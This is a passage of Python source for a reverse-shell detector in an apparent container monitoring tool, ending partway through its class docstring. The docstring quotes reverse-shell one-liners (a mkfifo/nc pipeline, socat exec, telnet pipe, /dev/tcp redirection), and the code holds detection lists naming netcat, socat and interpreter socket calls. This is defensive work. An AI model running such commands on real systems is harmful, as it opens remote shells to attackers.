"""Reverse shells: a shell or interpreter wired to a network peer, seen at exec time.

Strategy: three signals, strongest first; at most one verdict per event.

1. **Structural** (Tracee TRC-101; Falco "Redirect STDOUT/STDIN to Network Connection"): a
   shell or interpreter whose stdin or stdout (fd 0 or 1) is a connected TCP/UDP socket
   (:attr:`~coi_watch.events.Fd.connected_inet`). No command line is needed, so obfuscation
   and loopback targets do not matter. The program is known by exe basename, comm and argv[0]
   (busybox: exe is ``/bin/busybox``, the applet is argv[0], or argv[1] after ``busybox``).
   Trade-off: an inetd-style or socket-activated service (``StandardInput=socket``) whose
   program is a shell script looks exactly like this; exempt it with ``allow_programs``.
   Shells that sshd starts get a pty, and ``ssh host cmd`` gets pipes or a unix socketpair,
   so neither is an inet socket.
2. **Parent**: a shell or interpreter whose parent (``ancestry[0]``) is a netcat or a socat
   with a network address, or whose parent command line is itself a reverse shell by the
   rules of signal 3. The event carries ancestors' comm/exe/cmdline but not their fds, so
   this is how ``socat tcp:h:p exec:sh`` (a unix socketpair, not an inet socket, on the
   child's stdio) and ``ncat --ssl -e`` (pipes) are caught when their own exec was missed.
   A parent this detector already reported is skipped.
3. **Command line** (the Go original's families, with its gates, plus Falco and Sigma): the
   argv is normalised (:func:`~coi_watch.detectors._cmdline.normalize`), the program is
   resolved through wrappers (``env``, ``timeout``, ``busybox`` ...), and ``sh -c``/``eval``
   scripts are cut into simple commands, so a pattern counts only in command position
   (``echo 'nc -e' >> notes.md`` stays quiet). Families and their ``family`` evidence names:

   - ``nc-exec``: nc/ncat/netcat/nc.traditional/nc.openbsd/busybox nc with ``-e``,
     ``--exec``, ``--sh-exec``, ``--lua-exec``, or ``-c`` followed by a shell command (on
     OpenBSD nc ``-c`` is a TLS flag, hence the gate).
   - ``socat-exec``: socat with an ``EXEC:``/``SYSTEM:``/``SHELL:`` address *and* a network
     address (``TCP:``, ``TCP-LISTEN:``, ``OPENSSL:``, ``UDP:`` ...); Go's gate.
   - ``dev-tcp``/``dev-udp``: a ``/dev/tcp/HOST/PORT`` redirection to a non-loopback host
     (Go's gate) on a shell or interpreter, on ``exec``, read-write (``<>``), on a compound
     command (``done < /dev/tcp/..``), or in a pipeline that feeds a shell (Sigma's
     ``exec 5<>/dev/tcp/`` also catches the bash-only HTTP client ``exec 3<>/dev/tcp/h/80``;
     deliberately). Any other non-loopback ``/dev/tcp`` redirection (``cat </dev/tcp/h/80``,
     a wait-for-port loop) is ``dev-tcp-io`` at the ``dev_tcp_io`` level.
   - ``mkfifo-<relay>`` and ``<relay>-pipe``: a pipeline joining a relay (nc, telnet,
     ``openssl s_client``/``s_server``, socat) and a shell or interpreter that reads its
     commands from stdin (``mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h p >/tmp/f``;
     ``telnet h 1 | sh | telnet h 2``); ``mkfifo-`` when the script also makes a fifo
     (mkfifo, ``mknod NAME p``).
   - ``zsh-ztcp``: ``ztcp`` plus a descriptor duplication (``zsh >&$REPLY``).
   - One-liners, at the ``one_liners`` level: ``python-socket``/``python-pty``,
     ``perl-socket``, ``ruby-socket``, ``php-socket``, ``lua-socket``, ``node-net``,
     ``gawk-inet``: inline code (``-c``/``-e``/``-r``/``--eval``, a here-document or a
     here-string into the interpreter) that has a network indicator (``socket``,
     ``fsockopen``, ``TCPSocket``, ``IO::Socket``, ``net.Socket``, ``/inet/tcp`` ...; or
     ``perl -MIO``, ``ruby -rsocket``, ``lua -lsocket``) *and* a way to run commands on it
     (``pty.spawn``, ``subprocess``, ``dup2``, ``exec``, ``system``, ``popen``,
     ``child_process``, ``/bin/`` ...). Go gated one-liners on a network indicator alone,
     which let ``socket.gethostname()`` kill a container; a reverse shell needs both halves.

   Strong families win over one-liners, one-liners over ``dev-tcp-io`` (Go #842).
   Here-documents are data unless a shell or interpreter reads them, so
   ``cat > notes.md <<EOF`` about netcat stays quiet.

Known gaps, left to signal 1: a shell binary copied under another name; names built at run
time (``a=n; b=c; $a$b -e sh``); code fetched or decoded first (``base64 -d | sh``).

Hostile input: every step is linear in the argv (the lexer's argument is in
:mod:`coi_watch.detectors._cmdline`), the whole argv is always examined (no prefix cap a
payload could hide behind), nested scripts stop at :data:`MAX_DEPTH`, and evidence strings
are clipped. Judging a command line is a pure function of it, so short ones are remembered
(agents repeat themselves; replay gives the same verdicts).

State: per pid, the argv already judged and whether it was reported; children inherit both
at fork (a busybox NOEXEC applet keeps its parent's argv), a comm event with a new argv (a
missed exec) is judged by the command-line layer, exit evicts, and at most ``max_tracked``
pids are kept (oldest evicted first).

Dedup key: ``reverse_shell:<container>:<family>:<program>:<remote host>``; ports are left out
because a bind shell's peer port changes with every connection, pids because a burst of the
same shell is one threat.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any, ClassVar

from coi_watch.detectors._cmdline import (
    Command,
    base_name,
    cheap_unquote,
    normalize,
    parse_script,
    prepare,
    unquote,
)
from coi_watch.errors import ConfigError
from coi_watch.events import Ancestor, Event, Fd, ProcComm, ProcExec, ProcExit, ProcFork
from coi_watch.verdicts import Severity, Verdict

__all__ = ("DEFAULT_INTERPRETERS", "DEFAULT_SHELLS", "MAX_DEPTH", "ReverseShell")

MAX_DEPTH = 4
"""Nesting of ``sh -c`` / ``eval`` / substitutions followed (each level is linear)."""

DEFAULT_SHELLS: tuple[str, ...] = (
    "sh", "bash", "dash", "ash", "zsh", "ksh", "ksh93", "mksh", "oksh", "lksh", "pdksh",
    "posh", "yash", "rbash", "fish", "csh", "tcsh", "hush",
)
# name -> language whose inline code signal 3 reads ("" = structural and parent signals only)
DEFAULT_INTERPRETERS: Mapping[str, str] = {
    "python": "python", "pypy": "python", "perl": "perl", "ruby": "ruby", "irb": "ruby",
    "php": "php", "lua": "lua", "luajit": "lua", "node": "node", "nodejs": "node",
    "bun": "node", "awk": "awk", "gawk": "awk", "mawk": "awk", "nawk": "awk",
    "deno": "", "tclsh": "", "wish": "", "expect": "", "pwsh": "", "jrunscript": "",
}
_RELAYS: Mapping[str, str] = {
    "nc": "nc", "ncat": "nc", "netcat": "nc", "nc.traditional": "nc", "nc.openbsd": "nc",
    "socat": "socat", "telnet": "telnet", "openssl": "openssl",
}
# Wrappers run the command after them; the set lists their options that take a value, the
# int how many positionals come before the command (timeout DURATION, chroot DIR).
_WRAPPERS: Mapping[str, tuple[frozenset[str], int]] = {
    "exec": (frozenset({"-a"}), 0),
    "command": (frozenset(), 0),
    "builtin": (frozenset(), 0),
    "nohup": (frozenset(), 0),
    "setsid": (frozenset(), 0),
    "env": (frozenset({"-u", "--unset", "-C", "--chdir"}), 0),
    "nice": (frozenset({"-n", "--adjustment"}), 0),
    "ionice": (frozenset({"-c", "-n", "-p", "--class", "--classdata"}), 0),
    "timeout": (frozenset({"-s", "--signal", "-k", "--kill-after"}), 1),
    "stdbuf": (frozenset({"-i", "-o", "-e"}), 0),
    "sudo": (frozenset({"-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T", "-R"}), 0),
    "doas": (frozenset({"-u", "-C"}), 0),
    "chroot": (frozenset(), 1),
    "time": (frozenset({"-f", "-o"}), 0),
    "unbuffer": (frozenset(), 0),
    "busybox": (frozenset(), 0),
}
_OTHER_KINDS: Mapping[str, str] = {
    "eval": "eval", "su": "runner", "runuser": "runner", "script": "runner",
    "mkfifo": "fifo", "mknod": "mknod", "ztcp": "ztcp",
}
_CODE_LANGS = frozenset({"python", "perl", "ruby", "php", "lua", "node", "awk"})
_COMPOUND_ENDS = frozenset({"done", "fi", "esac", "}", ")"})
_LOOPBACK = frozenset(
    {"localhost", "localhost.localdomain", "ip6-localhost", "ip6-loopback", "::1", "[::1]",
     "0.0.0.0", "0", "::", "[::]"}
)

# Signal 3 one-liners: (network indicators, command-execution indicators), lower case.
_NET: Mapping[str, tuple[str, ...]] = {
    "python": ("socket", "open_connection", "create_connection", "telnetlib"),
    "perl": ("socket", "sockaddr_in", "inet_aton"),
    "ruby": ("socket",),
    "php": ("fsockopen", "socket_create", "socket_connect", "stream_socket_client"),
    "lua": ("socket", ":connect("),
    "node": ("net.socket", "net.connect", "createconnection", "require('net')",
             'require("net")', "require(`net`)", "node:net"),
    "awk": ("/inet/", "/inet4/", "/inet6/"),
}
_SPAWN: Mapping[str, tuple[str, ...]] = {
    "python": ("pty.", "import pty", ",pty", "pty,", "subprocess", "dup2", "system(",
               "popen", "exec", "spawn", "call(", "/bin/"),
    "perl": ("exec", "system", "open(stdin", "open stdin", "fdopen", "popen", "`", "/bin/"),
    "ruby": ("exec", "system", "spawn", "popen", "`", "%x", "/bin/"),
    "php": ("exec", "system", "passthru", "popen", "proc_open", "`", "/bin/"),
    "lua": ("execute", "popen", "/bin/"),
    "node": ("child_process", "spawn", "exec", "/bin/"),
    "awk": ("getline", "system(", "/bin/"),
}
_PYTHON_PTY = ("pty.", "import pty", ",pty", "pty,")
_FAMILY: Mapping[str, str] = {
    "python": "python-socket", "perl": "perl-socket", "ruby": "ruby-socket",
    "php": "php-socket", "lua": "lua-socket", "node": "node-net", "awk": "gawk-inet",
}
# Options that hold inline code, and options whose value is glued on or is the next word.
_CODE_OPTS: Mapping[str, frozenset[str]] = {
    "python": frozenset("c"), "perl": frozenset("eE"), "ruby": frozenset("e"),
    "php": frozenset("rBRE"), "lua": frozenset("e"),
}
_VALUE_OPTS: Mapping[str, frozenset[str]] = {
    "python": frozenset("WXQ"), "perl": frozenset("0lCDdFIiMmVx"),
    "ruby": frozenset("0CEFIKTWxr"), "php": frozenset("cdfz"), "lua": frozenset("l"),
}
_MODULE_OPTS: Mapping[str, str] = {"perl": "M", "ruby": "r", "lua": "l"}
_NODE_CODE = frozenset({"-e", "--eval", "-p", "--print"})
_NC_VALUE_OPTS = frozenset("gGiIMmOoPpqsTVwXxb")
_NC_EXEC_LONG = frozenset({"exec", "sh-exec", "lua-exec"})
_NCAT_LONG_VALUE = frozenset(
    {"source", "proxy", "proxy-type", "proxy-auth", "proxy-dns", "wait", "idle-timeout",
     "delay", "output", "hex-dump", "append-output", "max-conns", "allow", "allowfile",
     "deny", "denyfile", "ssl-cert", "ssl-key", "ssl-trustfile", "ssl-ciphers",
     "ssl-servername", "ssl-alpn"}
)
_SOCAT_EXEC = frozenset({"exec", "system", "shell"})
_SOCAT_NET = frozenset(
    f"{proto}{v}{suffix}"
    for proto in ("tcp", "udp", "sctp", "dccp", "ip")
    for v in ("", "4", "6")
    for suffix in ("", "-connect", "-listen", "-l", "-sendto", "-datagram", "-recvfrom",
                   "-recv")
) | {"openssl", "openssl-connect", "openssl-listen", "ssl", "ssl-l", "socks", "socks4",
     "socks4a", "socks5", "socks5-connect", "socks5-listen", "proxy", "proxy-connect",
     "vsock-connect", "vsock-listen"}

# Prefilter: a script that holds none of these (quotes and case removed) cannot hit, so the
# common `cd x && make` costs a few C-speed substring scans and no lexing.
_TRIGGERS: tuple[str, ...] = (
    "nc", "netcat", "socat", "telnet", "openssl", "/dev/", "ztcp", "python", "pypy", "perl",
    "ruby", "php", "lua", "node", "bun", "awk",
)

_STRONG, _ONE_LINER, _IO = 3, 2, 1
_LEVELS: Mapping[str, Severity | None] = {
    "critical": Severity.CRITICAL, "high": Severity.HIGH, "warning": Severity.WARNING,
    "warn": Severity.WARNING, "off": None,
}
_MITRE_LANG: Mapping[str, str] = {
    "sh": "T1059.004", "python": "T1059.006", "node": "T1059.007", "lua": "T1059.011",
}
_EVIDENCE_ARGS, _EVIDENCE_CHARS = 32, 512
_MEMO_CHARS, _MEMO_ENTRIES = 4096, 4096  # command lines remembered: length and count caps


# ----------------------------------------------------------------------------- hits


@dataclass(frozen=True, slots=True)
class _Hit:
    family: str
    program: str  # the program that makes or carries the connection (nc, socat, python ...)
    strength: int  # _STRONG, _ONE_LINER or _IO
    lang: str = "sh"  # what the attacker gets to run, for the MITRE sub-technique
    remote: str = ""  # peer host where the command line names it
    detail: tuple[tuple[str, str], ...] = ()
    tls: bool = False


@dataclass(frozen=True, slots=True)
class _Facts:
    """What one command of a script contributes (see ``_Matcher._facts``)."""

    inert: bool  # contributes nothing (a kept command that is harmless here)
    hit: _Hit | None  # its own argv, and here-strings into it when it reads code from stdin
    name: str  # resolved program name and kind ("" when none)
    kind: str
    first: str  # its first word, unquoted (exec, done ...)
    reader: str  # language of the code it reads from stdin, "" when none
    relay: tuple[str, str, str] | None  # (kind, name, remote) of nc/telnet/openssl/socat
    fifo: bool
    ztcp: bool
    fd_dup: bool  # a descriptor duplication (>&5, >&$REPLY)
    devs: tuple[tuple[str, str], ...]  # (operator, target) of /dev/tcp|udp redirections
    herestrings: tuple[str, ...]  # here-strings that are data (it does not read code)


def _best(a: _Hit | None, b: _Hit | None) -> _Hit | None:
    if a is None:
        return b
    if b is None:
        return a
    return b if b.strength > a.strength else a


def _clip(text: str, limit: int = _EVIDENCE_CHARS) -> str:
    return text if len(text) <= limit else f"{text[:limit]}...(+{len(text) - limit} chars)"


def _host_of(endpoint: str) -> str:
    """``1.2.3.4:4444`` -> ``1.2.3.4``, ``[::1]:80`` -> ``[::1]``."""
    return endpoint.rpartition(":")[0] if ":" in endpoint else endpoint


def _is_loopback(host: str) -> bool:
    host = host.lower()
    return host in _LOOPBACK or host.startswith(("127.", "[::ffff:127.", "::ffff:127."))


def _positionals(args: Sequence[str]) -> Iterator[str]:
    """Non-option arguments of nc (lazily), skipping the values of its options: a cluster
    ending in a value option (``-lvnp 4444``, ``-e /bin/sh``) or a long option without
    ``=`` that takes one (``--sh-exec CMD``)."""
    skip = False
    for a in args:
        if skip:
            skip = False
        elif a[:2] == "--":
            key, eq, _ = a[2:].partition("=")
            skip = not eq and (key in _NCAT_LONG_VALUE or key in _NC_EXEC_LONG)
        elif a[:1] == "-" and len(a) > 1:
            skip = a[-1] in _NC_VALUE_OPTS or a[-1] in "ec"
        else:
            yield a


# ----------------------------------------------------------------------------- matching


class _Matcher:
    """Signal 3 (and the command-line part of signal 2), over normalised words."""

    def __init__(self, shells: Iterable[str], interpreters: Mapping[str, str]) -> None:
        kinds: dict[str, str] = {}
        kinds.update((name, "wrapper") for name in _WRAPPERS)
        kinds["busybox"] = "busybox"
        kinds.update(_OTHER_KINDS)
        kinds.update(_RELAYS)
        kinds.update((name, lang or "interp") for name, lang in interpreters.items())
        kinds.update((name, "shell") for name in shells)
        self.kinds = kinds
        self._cache: dict[str, tuple[str, str]] = {}
        self._memo: dict[tuple[tuple[str, ...], bool], _Hit | None] = {}

    # -- names

    def lookup(self, word: str) -> tuple[str, str]:
        """``(canonical name, kind)`` of a command word; kind ``""`` when unknown.

        ``/usr/bin/Python3.11`` -> ``("python", "python")``; ``-bash`` (a login shell) ->
        ``("bash", "shell")``; versions are stripped only when the exact name is unknown.
        """
        hit = self._cache.get(word)
        if hit is not None:
            return hit
        name = base_name(word).partition(" (deleted)")[0].lstrip("-").lower()
        kind = self.kinds.get(name)
        if kind is None:
            short = name.rstrip("0123456789.-")
            kind = self.kinds.get(short)
            if kind is not None:
                name = short
        found = (name, kind or "")
        if len(word) <= 256:
            if len(self._cache) >= 4096:
                self._cache.clear()
            self._cache[word] = found
        return found

    def keep(self, first: str) -> bool:
        """Whether a script's command word is worth recording (see ``parse_script``)."""
        return bool(self.lookup(first)[1])

    def resolve(self, words: Sequence[str]) -> tuple[int, str, str] | None:
        """``(index, name, kind)`` of the program ``words`` really runs, through wrappers
        (``env X=1 timeout 5 busybox nc`` -> nc); ``None`` when there is none."""
        i, n = 0, len(words)
        for _ in range(8):
            if i >= n:
                return None
            name, kind = self.lookup(words[i])
            if kind != "wrapper" and kind != "busybox":
                return i, name, kind
            value_opts, skip = _WRAPPERS[name] if kind == "wrapper" else (frozenset(), 0)
            i += 1
            while i < n:
                w = words[i]
                if w == "--":
                    i += 1
                    break
                if w.startswith("-") and len(w) > 1:
                    i += 2 if w in value_opts else 1
                elif "=" in w and name == "env":
                    i += 1
                elif skip > 0:
                    skip -= 1
                    i += 1
                else:
                    break
        return None

    # -- argv and scripts

    def argv(self, words: Sequence[str], depth: int, lossy: bool = False) -> _Hit | None:
        """Judge one command (kernel argv, or the unquoted words of a script command).

        ``lossy``: ``words`` are an ancestor's space-joined cmdline split again, so the
        quoting is gone and a ``-c`` script or code runs to the end of the line.
        """
        found = self.resolve(words)
        if found is None:
            return None
        i, name, kind = found
        args = words[i + 1 :]
        if kind == "nc":
            return self._nc(name, args)
        if kind == "socat":
            return self._socat(args)
        if kind == "shell":
            return self.script(_shell_script(args, lossy), depth + 1)
        if kind == "runner":
            return self.script(_runner_script(args, lossy), depth + 1)
        if kind == "eval":
            return self.script(" ".join(args), depth + 1)
        if kind in _CODE_LANGS:
            return self._code(kind, name, args, lossy)
        return None

    def judge(self, argv: tuple[str, ...], lossy: bool = False) -> _Hit | None:
        """:meth:`argv` at the top level, remembered for short command lines: agents run the
        same few commands over and over (a pure function of the argv, so replay-safe)."""
        if sum(map(len, argv)) > _MEMO_CHARS:
            return self.argv(argv, 0, lossy)
        key = (argv, lossy)
        memo = self._memo
        if key in memo:
            return memo[key]
        if len(memo) >= _MEMO_ENTRIES:
            memo.clear()
        hit = memo[key] = self.argv(argv, 0, lossy)
        return hit

    def may_hit(self, text: str) -> bool:
        """Cheap prefilter: can ``text`` hold anything :meth:`script` reports?"""
        if "$'" in text:  # ANSI-C quoting can spell any name ($'\x6e\x63' is nc)
            return True
        low = cheap_unquote(text).lower()
        return any(t in low for t in _TRIGGERS)

    def script(self, text: str, depth: int) -> _Hit | None:
        """Judge a shell script (``sh -c`` text, ``eval`` words, a here-document)."""
        if depth > MAX_DEPTH or not text:
            return None
        text = prepare(text)
        if not self.may_hit(text):
            return None
        parsed = parse_script(text, self.keep)
        memo: dict[int, _Facts] = {}  # identical commands share one Command: judge it once
        best: _Hit | None = None
        fifo = ztcp = fd_dup = False
        met: list[tuple[tuple[str, str, str], str]] = []  # (relay, reader language) in a pipe
        # The pipeline being read: its relay, the language of a stage reading stdin, its
        # /dev/tcp redirections and the stdin texts of its other stages.
        cur, relay, reader = -1, None, ""
        devs: list[tuple[str, str, str, str]] = []
        data: list[str] = []
        get = memo.get
        for pipeline, cmd, heredocs in parsed.commands:
            if pipeline != cur:
                if devs or (reader and (relay or data)):
                    best = _best(best, self._pipe_end(relay, reader, devs, data, met, depth))
                    devs, data = [], []
                cur, relay, reader = pipeline, None, ""
            f = get(id(cmd))
            if f is None:
                f = memo[id(cmd)] = self._facts(cmd, depth)
            if f.inert and not heredocs:
                continue
            if f.hit is not None:
                best = _best(best, f.hit)
                if best is not None and best.strength == _STRONG:
                    return best
            fifo, ztcp, fd_dup = fifo or f.fifo, ztcp or f.ztcp, fd_dup or f.fd_dup
            relay = relay or f.relay
            if f.reader:
                reader = reader or f.reader
                for body in heredocs:
                    best = _best(best, self._stdin_code(f.reader, f.name, body, depth))
            else:
                data.extend(f.herestrings)
                data.extend(heredocs)
            if f.devs:
                devs.extend((op, target, f.name or f.first, f.kind) for op, target in f.devs)
        if devs or (reader and (relay or data)):
            best = _best(best, self._pipe_end(relay, reader, devs, data, met, depth))
        for (kind, program, remote), lang in met:
            family = f"mkfifo-{kind}" if fifo else f"{kind}-pipe"
            best = _best(best, _Hit(family, program, _STRONG, lang, remote,
                                    tls=kind == "openssl"))
        if ztcp and fd_dup:
            best = _best(best, _Hit("zsh-ztcp", "zsh", _STRONG))
        if best is None or best.strength < _STRONG:
            for sub in parsed.substitutions:
                best = _best(best, self.script(sub, depth + 1))
        return best

    def _facts(self, cmd: Command, depth: int) -> _Facts:
        """What one command contributes to its script (computed once per command text)."""
        words = [unquote(w) for w in cmd.words] if cmd.quoted else list(cmd.words)
        found = self.resolve(words) if words else None
        name, kind = (found[1], found[2]) if found else ("", "")
        args = words[found[0] + 1 :] if found else []
        hit = self.argv(words, depth) if cmd.kept and words else None
        reader = ""
        if (kind == "shell" or kind in _CODE_LANGS) and _reads_stdin(kind, args):
            reader = "sh" if kind == "shell" else kind
            for body in cmd.herestrings:
                hit = _best(hit, self._stdin_code(reader, name, body, depth))
        relay = None
        if kind in ("nc", "telnet", "socat") or (
            kind == "openssl" and ("s_client" in args or "s_server" in args)
        ):
            relay = (kind, name, _relay_remote(kind, args))
        devs = []
        fd_dup = False
        for op, target in cmd.redirs:
            t = unquote(target)
            fd_dup = fd_dup or op.endswith("&") or "$reply" in t.lower()
            if t.startswith(("/dev/tcp/", "/dev/udp/")):
                devs.append((op, t))
        fifo = kind == "fifo" or (kind == "mknod" and "p" in args)
        return _Facts(
            inert=not (hit or reader or relay or fifo or kind == "ztcp" or fd_dup or devs
                       or cmd.herestrings),
            hit=hit,
            name=name,
            kind=kind,
            first=words[0] if words else "",
            reader=reader,
            relay=relay,
            fifo=fifo,
            ztcp=kind == "ztcp",
            fd_dup=fd_dup,
            devs=tuple(devs),
            herestrings=() if reader else cmd.herestrings,
        )

    def _pipe_end(
        self,
        relay: tuple[str, str, str] | None,
        reader: str,
        devs: list[tuple[str, str, str, str]],
        data: list[str],
        met: list[tuple[tuple[str, str, str], str]],
        depth: int,
    ) -> _Hit | None:
        """Judge a finished pipeline: /dev/tcp redirections (strong when a stage reads code
        from stdin), stdin texts fed to such a stage, and a relay meeting a reader."""
        best: _Hit | None = None
        for op, target, first, kind in devs:
            best = _best(best, _dev_socket(op, target, first, kind, bool(reader)))
        if reader:
            if relay is not None:
                met.append((relay, reader))
            for body in data:
                best = _best(best, self._stdin_code(reader, reader, body, depth))
        return best

    def _stdin_code(self, lang: str, name: str, body: str, depth: int) -> _Hit | None:
        if lang == "sh":
            return self.script(body, depth + 1)
        return self._judge_code(lang, name, body, False)

    # -- families

    def _nc(self, name: str, args: Sequence[str]) -> _Hit | None:
        """``nc-exec``: an exec option (Falco's list) anywhere among the options.

        Each distinct option word is read once (a hostile argv repeats them); getopt
        clusters count up to their first option that takes a value (``-lvnpe`` is not
        ``-e`` after ``-p``), a ``-c`` only with a shell command for its value.
        """
        opt = target = ""
        for a in dict.fromkeys(args):  # distinct words, in order (deterministic evidence)
            if a[:1] != "-" or a == "-":
                continue
            if a.startswith("--"):
                key, eq, val = a[2:].partition("=")
                if key in _NC_EXEC_LONG:
                    opt, target = "--" + key, val if eq else _after(args, a)
                    break
                continue
            cluster = a[1:]
            for k, ch in enumerate(cluster):
                if ch == "e" or ch == "c":
                    glued = cluster[k + 1 :]
                    values = [glued] if glued else _all_after(args, a)
                    if ch == "e":
                        opt, target = "-e", values[0] if values else ""
                    else:
                        opt, target = "-c", next(
                            (v for v in dict.fromkeys(values) if self._is_shell_command(v)), ""
                        )
                        opt = opt if target else ""
                    break
                if ch in _NC_VALUE_OPTS:
                    break
            if opt:
                break
        if not opt:
            return None
        return _Hit("nc-exec", name, _STRONG, remote=_relay_remote("nc", args),
                    detail=(("option", opt), ("target", _clip(target or "?", 256))))

    def _is_shell_command(self, text: str) -> bool:
        head = text.split(None, 1)
        if not head:
            return False
        kind = self.lookup(head[0])[1]
        return kind == "shell" or kind in _CODE_LANGS or kind == "interp" or "/bin/" in text

    def _socat(self, args: Sequence[str]) -> _Hit | None:
        exec_addr = net_addr = ""
        for a in args:
            if a.startswith("-") and a != "-":
                continue
            head = a.lstrip("'\"").split(":", 1)[0].split(",", 1)[0].lower()
            if head in _SOCAT_EXEC:
                exec_addr = exec_addr or a
            elif head in _SOCAT_NET:
                net_addr = net_addr or a
        if not (exec_addr and net_addr):
            return None
        parts = net_addr.split(":")
        host = parts[1] if len(parts) > 2 else ""
        return _Hit("socat-exec", "socat", _STRONG, remote=host.split(",")[0],
                    detail=(("exec", _clip(exec_addr, 256)), ("network", _clip(net_addr, 256))),
                    tls=net_addr.lower().lstrip("'\"").startswith(("openssl", "ssl")))

    def _code(self, lang: str, name: str, args: Sequence[str], lossy: bool) -> _Hit | None:
        code, modules = _inline_code(lang, args, lossy)
        module_net = any("socket" in m.lower() or m.lower() == "io" for m in modules)
        if code is None:
            return None
        return self._judge_code(lang, name, code, module_net)

    def _judge_code(self, lang: str, name: str, code: str, module_net: bool) -> _Hit | None:
        low = code.lower()
        if not (module_net or any(x in low for x in _NET[lang])):
            return None
        if not any(x in low for x in _SPAWN[lang]):
            return None
        family = _FAMILY[lang]
        if lang == "python" and any(x in low for x in _PYTHON_PTY):
            family = "python-pty"
        return _Hit(family, name, _ONE_LINER, lang, detail=(("code", _clip(code, 256)),))


def _after(args: Sequence[str], word: str) -> str:
    """The argument after the first ``word`` (an option's value), or ``""``."""
    i = list(args).index(word) + 1
    return args[i] if i < len(args) else ""


def _all_after(args: Sequence[str], word: str) -> list[str]:
    """The arguments after every occurrence of ``word``."""
    return [args[i + 1] for i, a in enumerate(args[:-1]) if a == word]


def _shell_script(args: Sequence[str], lossy: bool) -> str:
    """The ``-c`` script of a shell's arguments, or ``""`` (a script file, or stdin).

    Like bash, the script is the first argument after the options, wherever ``c`` appeared
    among them (``bash -c -l 'x'``, ``sh -ec 'x'``, ``bash -o pipefail -c 'x'``).
    """
    has_c = False
    j, n = 0, len(args)
    while j < n:
        a = args[j]
        if a == "--":
            j += 1
            break
        if a[:1] not in ("-", "+") or len(a) == 1:
            break
        j += 1
        if a in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file"):
            j += 1  # these take the next argument as their value
        elif a[:2] not in ("--", "++"):
            has_c = has_c or "c" in a[1:]
    if not has_c or j >= n:
        return ""
    return " ".join(args[j:]) if lossy else args[j]


def _runner_script(args: Sequence[str], lossy: bool) -> str:
    """``su -c CMD`` / ``runuser -c CMD`` / ``script -c CMD``."""
    for j, a in enumerate(args):
        if a in ("-c", "--command") and j + 1 < len(args):
            return " ".join(args[j + 1 :]) if lossy else args[j + 1]
        if a.startswith("--command="):
            return a[len("--command=") :]
    return ""


def _inline_code(lang: str, args: Sequence[str], lossy: bool) -> tuple[str | None, list[str]]:
    """``(inline code or None, modules loaded by option)`` of an interpreter's arguments."""
    if lang == "awk":
        return " ".join(args), []
    if lang == "node":
        for j, a in enumerate(args):
            key, eq, val = a.partition("=")
            if key in _NODE_CODE:
                if eq:
                    return val, []
                if j + 1 < len(args):
                    return (" ".join(args[j + 1 :]) if lossy else args[j + 1]), []
            elif not a.startswith("-"):
                break
        return None, []
    code_opts, value_opts = _CODE_OPTS[lang], _VALUE_OPTS[lang]
    module_opt = _MODULE_OPTS.get(lang, "")
    codes: list[str] = []
    modules: list[str] = []
    j, n = 0, len(args)
    while j < n:
        a = args[j]
        j += 1
        if a == "--" or not a.startswith("-") or a == "-":
            break  # a script file, or stdin: code given inline ends here
        if a.startswith("--"):
            continue
        cluster = a[1:]
        for k, ch in enumerate(cluster):
            glued = cluster[k + 1 :]
            if ch in code_opts:
                if glued:
                    codes.append(glued)
                elif j < n:
                    codes.append(" ".join(args[j:]) if lossy else args[j])
                    j += 1
                break
            if ch == module_opt or ch in value_opts:
                val = glued
                if not glued and j < n and ch in "MIlr":
                    val, j = args[j], j + 1
                if ch == module_opt:
                    modules.append(val)
                break
            if lang == "python" and ch == "m":
                return None, modules  # python -m MODULE: no inline code
    if not codes:
        return ("" if modules else None), modules
    return "\n".join(codes), modules


def _reads_stdin(kind: str, args: Sequence[str]) -> bool:
    """Whether a shell or interpreter takes its commands from stdin (no ``-c``/``-e`` code,
    no script file): the stage of a pipeline that executes what a relay receives."""
    for a in args:
        if a in ("-", "-s", "--"):
            return True
        if not a.startswith("-"):
            return False
        if a.startswith("--"):
            if kind == "node" and a.partition("=")[0] in _NODE_CODE:
                return False
            continue
        cluster = a[1:]
        if kind == "shell" and "c" in cluster:
            return False
        if kind in _CODE_OPTS and any(ch in _CODE_OPTS[kind] for ch in cluster):
            return False
        if kind == "node" and a in _NODE_CODE:
            return False
        if kind == "python" and "m" in cluster:
            return False
    return kind != "awk"  # awk's program is its first argument, never stdin


def _relay_remote(kind: str, args: Sequence[str]) -> str:
    if kind == "openssl":
        for j, a in enumerate(args):
            if a == "-connect" and j + 1 < len(args):
                return _host_of(args[j + 1])
        return ""
    if kind == "socat":
        for a in args:
            parts = a.split(":")
            if len(parts) > 2 and parts[0].lower() in _SOCAT_NET:
                return parts[1]
        return ""
    # nc HOST PORT: the first positional that is not a port (values of -p/-s/-w ... are
    # skipped by the getopt walk in _positionals).
    return next((p for p in _positionals(args) if not p.isdigit()), "")


def _dev_socket(op: str, target: str, first: str, kind: str, fed: bool) -> _Hit | None:
    """Go's gate for ``/dev/tcp``: a redirection target to a non-loopback host; strong when
    it gives a shell or a lasting descriptor a socket (see the module docstring)."""
    if not target.startswith(("/dev/tcp/", "/dev/udp/")):
        return None
    parts = target.split("/")
    host = parts[3] if len(parts) > 3 else ""
    if _is_loopback(host):
        return None
    proto = parts[2]
    strong = (
        "<>" in op
        or kind == "shell"
        or kind in _CODE_LANGS
        or kind == "interp"
        or first == "exec"
        or first in _COMPOUND_ENDS
        or fed
    )
    family = f"dev-{proto}" if strong else f"dev-{proto}-io"
    return _Hit(family, first or "sh", _STRONG if strong else _IO, remote=host,
                detail=(("redirection", _clip(f"{op}{target}", 256)),))


# ----------------------------------------------------------------------------- the detector


@dataclass(slots=True)
class _Proc:
    argv_key: int
    reported: bool


class ReverseShell:
    """Reverse shells at exec time; the strategy is in the module docstring.

    Config keys (``[detectors.reverse_shell]``), with defaults:

    ``one_liners = "critical"``
        Severity of the interpreter one-liner families (``critical``, ``high``, ``warning``,
        ``off``; Go's ``reverse_shell_one_liners``, whose ``warn`` is accepted). The other
        families and the structural and parent signals are always critical.
    ``dev_tcp_io = "warning"``
        Severity of ``dev-tcp-io`` (a one-way non-loopback ``/dev/tcp`` redirection).
    ``allow_programs = []``
        Names or paths exempted from every signal: matched against the exec'd program
        (exe path and basename, comm, argv[0] and its basename, and a script path in argv[1])
